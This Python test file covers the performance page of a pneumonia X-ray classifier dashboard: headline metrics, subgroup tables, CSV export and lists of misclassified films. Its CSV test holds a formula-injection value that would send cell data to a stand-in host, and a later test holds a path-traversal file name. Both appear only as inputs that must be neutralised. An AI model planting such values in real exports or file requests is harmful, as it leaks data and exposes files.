"""Performance: the figures of the served version, and the films it got wrong."""

from pathlib import Path

from model import performance
from model.bundle import Bundle
from pages.shared.trust import evidence
from tests.model import version_cases as versions
from tests.pages.performance_cases import TABS, Page, Serve, estimate, films, rate
from tests.pages.performance_cases import full as full
from tests.pages.performance_cases import serve as serve


def test_the_answer_stands_at_the_top(full: Bundle) -> None:
    row, text = performance.champion(full), Page().text
    said = text.index(f"finds {100 * row.recall.value:.1f} % of the X-rays with pneumonia")
    cleared = f"clears {100 * row.specificity.value:.1f} % of those without"
    assert said < text.index(cleared) < text.index("AUROC")
    assert f"{row.recall.numerator} of 40" in text
    assert f"{100 * row.recall.low:.1f}–{100 * row.recall.high:.1f}" in text
    assert f"Version {full.model_version}" in text
    assert "test split (60 X-rays), 40 of them with pneumonia" in text
    assert "“Brightness - 20 %” costs most" in text


def test_figures_are_those_of_the_metrics(full: Bundle) -> None:
    page, row = Page(), performance.champion(full)
    shown = {name: value for name, value, _ in page.table("as served")[1:]}
    assert shown == {
        "AUROC": estimate(row.auroc),
        "Accuracy": rate(row.accuracy),
        "Sensitivity": rate(row.recall),
        "Specificity": rate(row.specificity),
        "PPV": rate(row.precision),
        "NPV": rate(row.npv),
        "F1": estimate(row.f1),
        "ECE, 15 bins": f"{row.ece:.3f}",
    }
    groups = performance.subgroups(full, "test", 0.4)
    assert [cells[:3] for cells in page.table("On whom")[1:]] == [
        [group.name, str(group.n), rate(group.sensitivity)] for group in groups
    ]
    assert "every X-ray of this copy of the data has 224 x 224 px" in page.text
    choices = {row[0].split(":")[0]: row[1:] for row in page.table("chosen where")[1:]}
    assert choices["Rule-in"] == ["0.8", "a fold of 40 X-rays"]
    assert choices["Temperature"][0] == "0.50"


def test_tables_can_be_had_as_csv(full: Bundle) -> None:
    from pages.shared.trust import tables

    assert {"performance.csv.figures", "performance.csv.subgroups"} <= {
        button.proto.id.split("-")[-1] for button in Page().at.get("download_button")
    }
    row = performance.champion(full)
    said = {"Who": tables.Own('=HYPERLINK("http://a.b/?x="&A1)'), "Loss": "-0.003"}
    [line] = [{"What": "a; b", "Recall": row.recall, "F1": row.f1, "n": 3, **said}]
    header, body = tables.as_csv([line]).decode("utf-8-sig").splitlines()
    columns = "What,Recall,Recall low,Recall high,Recall count,Recall of,F1,F1 low,F1 high,n"
    assert header == f"{columns},Who,Loss"
    assert body.startswith(f"a; b,{row.recall.value},{row.recall.low}")
    assert body.endswith('"\'=HYPERLINK(""http://a.b/?x=""&A1)",-0.003')  # text, and a number


def test_a_split_of_one_class_has_unknown_figures_and_breaks_no_tab(serve: Serve) -> None:
    normal = versions.evaluation("test split", 3, num_images=1)
    serve(lambda folder: versions.write_version(folder, evaluations={"test": normal}))
    shown = {name: value for name, value, _ in Page().table("as served")[1:]}
    assert shown["AUROC"] == shown["Sensitivity"] == "unknown"
    for tab in TABS:
        Page(tab)


def test_without_the_data_set_a_sentence_says_how_to_see_the_errors(full: Bundle) -> None:
    page = Page()
    assert "XRAY_DATA" in page.text
    assert not page.captions


def test_errors_are_shown_most_confidently_wrong_first(serve: Serve, tmp_path: Path) -> None:
    data = tmp_path / "data"
    bundle = serve(versions.write_version, data)
    films(data, bundle)
    counts = performance.champion(bundle).confusion
    missed, alarms = evidence.errors(0.4)
    assert (len(missed), len(alarms)) == (counts.false_negatives, counts.false_positives)
    assert [f.probability for f in missed] == sorted(f.probability or 0 for f in missed)
    assert all(film.label == 0 and (film.probability or 0) >= 0.4 for film in alarms)
    page = Page()
    captions = page.captions
    assert len(captions) == len(missed) + len(alarms)
    assert captions[0].replace("\\", "").startswith(missed[0].path.name)
    assert f"probability {missed[0].probability:.3f}" in captions[0]
    assert f"Missed pneumonia: {counts.false_negatives}" in page.text.replace("*", "")


def test_films_that_are_not_there_are_counted(serve: Serve, tmp_path: Path) -> None:
    data = tmp_path / "data"
    bundle = serve(versions.write_version, data)
    films(data, bundle)
    gone = evidence.errors(0.4)[0][0].path
    gone.unlink()
    assert "1 of them are not in the folder" in Page().text
    assert gone not in [film.path for film in evidence.errors(0.4)[0]]


def test_a_name_in_a_card_does_not_lead_out_of_the_data_folder(
    serve: Serve, tmp_path: Path
) -> None:
    (tmp_path / "secret.png").write_bytes(b"x")
    (tmp_path / "data").mkdir()
    serve(versions.write_version, tmp_path / "data")
    assert evidence._film_path("test", 1, "../../../secret.png") is None
    assert evidence._film_path("test", 1, str(tmp_path / "secret.png")) is None
